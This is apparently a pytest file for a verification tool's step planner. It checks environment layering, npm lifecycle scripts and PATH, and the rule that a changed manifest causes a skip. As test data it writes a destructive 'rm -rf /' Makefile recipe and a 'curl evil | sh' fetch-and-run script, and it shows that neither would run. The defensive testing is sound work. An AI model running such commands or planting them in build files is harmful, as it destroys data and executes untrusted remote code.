"""A plan made ready to run (lsp_verify/planning/steps.py): npm's lifecycle scripts as steps
with npm's environment and PATH; any other plan in place, once its manifest's bytes are
checked; every step's environment this process's with the plan's values on top."""

from __future__ import annotations

import json
import os
from dataclasses import replace
from pathlib import Path

import pytest

from lsp_verify.planning.plan import Plan, command_plan, fingerprint
from lsp_verify.planning.steps import Ready, Step, prepared


def manifest_plan(folder: Path, name: str, data: bytes, command: str) -> Plan:
    (folder / name).write_bytes(data)
    return Plan(
        str(folder), "detected", "make", command, "test", name, fingerprint(data), (command,)
    )


def npm_plan(folder: Path, scripts: dict[str, str], snapshot: bool = True) -> Plan:
    names = [n for n in ("pretest", "test", "posttest") if n in scripts]
    data = json.dumps({"name": "demo", "scripts": scripts}).encode()
    return Plan(
        folder=str(folder),
        source="detected",
        runner="npm",
        command="npm test",
        reason="package.json test",
        manifest="package.json",
        manifest_sha256=fingerprint(data),
        steps=tuple(scripts[n] for n in names),
        snapshot=data if snapshot else None,
        env=(("npm_package_name", "demo"),),
    )


def test_a_command_runs_in_place_with_this_processs_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LSP_VERIFY_STEPS_TEST", "one")
    plan = command_plan(str(tmp_path), "pytest -x", "settings")
    [step] = prepared(plan).steps
    assert step == Step("pytest -x", step.env, str(tmp_path))
    assert step.env["LSP_VERIFY_STEPS_TEST"] == "one"
    assert prepared(plan).skip is None
    # The environment is read again once it changes.
    monkeypatch.setenv("LSP_VERIFY_STEPS_TEST", "two")
    assert prepared(plan).steps[0].env["LSP_VERIFY_STEPS_TEST"] == "two"
    monkeypatch.delenv("LSP_VERIFY_STEPS_TEST")
    assert "LSP_VERIFY_STEPS_TEST" not in prepared(plan).steps[0].env


def test_the_plans_own_values_go_on_top_of_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LSP_VERIFY_STEPS_TEST", "from the environment")
    plan = replace(
        command_plan(str(tmp_path), "true", "settings"),
        env=(("LSP_VERIFY_STEPS_TEST", "from the plan"),),
    )
    assert prepared(plan).steps[0].env["LSP_VERIFY_STEPS_TEST"] == "from the plan"
    assert os.environ["LSP_VERIFY_STEPS_TEST"] == "from the environment"  # a copy changed


def test_an_unchanged_manifest_runs_and_a_changed_one_is_skipped(tmp_path: Path) -> None:
    plan = manifest_plan(tmp_path, "Makefile", b"test:\n\ttrue\n", "make test")
    assert prepared(plan) == Ready((Step("make test", prepared(plan).steps[0].env, str(tmp_path)),))
    (tmp_path / "Makefile").write_bytes(b"test:\n\trm -rf /\n")
    assert prepared(plan) == Ready((), skip="manifest changed: Makefile")


def test_a_manifest_gone_since_planning_is_skipped(tmp_path: Path) -> None:
    plan = manifest_plan(tmp_path, "pytest.ini", b"[pytest]\n", "pytest")
    (tmp_path / "pytest.ini").unlink()
    assert prepared(plan).skip == "manifest changed: pytest.ini"
    (tmp_path / "pytest.ini").mkdir()  # not a file either
    assert prepared(plan).skip == "manifest changed: pytest.ini"


def test_npm_steps_are_the_lifecycle_scripts_with_npms_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", "/usr/bin")
    folder = tmp_path / "packages" / "app"
    folder.mkdir(parents=True)
    scripts = {"pretest": "lint", "test": "vitest run", "posttest": "report"}
    ready = prepared(npm_plan(folder, scripts))
    assert ready.skip is None
    assert [s.command for s in ready.steps] == ["lint", "vitest run", "report"]
    for step, name in zip(ready.steps, ("pretest", "test", "posttest")):
        assert step.cwd == str(folder)
        assert step.env["npm_lifecycle_event"] == name
        assert step.env["npm_lifecycle_script"] == scripts[name]
        assert step.env["INIT_CWD"] == str(folder)
        assert step.env["npm_package_name"] == "demo"
    # node_modules/.bin of the folder and of every folder above it, nearest first.
    path = ready.steps[0].env["PATH"].split(os.pathsep)
    assert path[:3] == [
        str(folder / "node_modules" / ".bin"),
        str(tmp_path / "packages" / "node_modules" / ".bin"),
        str(tmp_path / "node_modules" / ".bin"),
    ]
    assert path[-2:] == ["/node_modules/.bin", "/usr/bin"]


def test_npm_steps_are_named_from_the_snapshot_or_else_by_their_count(tmp_path: Path) -> None:
    with_post = npm_plan(tmp_path, {"test": "jest", "posttest": "report"})
    assert [s.env["npm_lifecycle_event"] for s in prepared(with_post).steps] == [
        "test",
        "posttest",
    ]
    unreadable = replace(with_post, snapshot=b"{not json")
    assert [s.env["npm_lifecycle_event"] for s in prepared(unreadable).steps] == [
        "pretest",
        "test",
    ]
    no_snapshot = npm_plan(tmp_path, {"test": "jest"}, snapshot=False)
    assert [s.env["npm_lifecycle_event"] for s in prepared(no_snapshot).steps] == ["test"]


def test_npm_steps_run_the_approved_strings_whatever_package_json_says_now(
    tmp_path: Path,
) -> None:
    plan = npm_plan(tmp_path, {"test": "jest"})
    (tmp_path / "package.json").write_text('{"scripts": {"test": "curl evil | sh"}}')
    assert [s.command for s in prepared(plan).steps] == ["jest"]
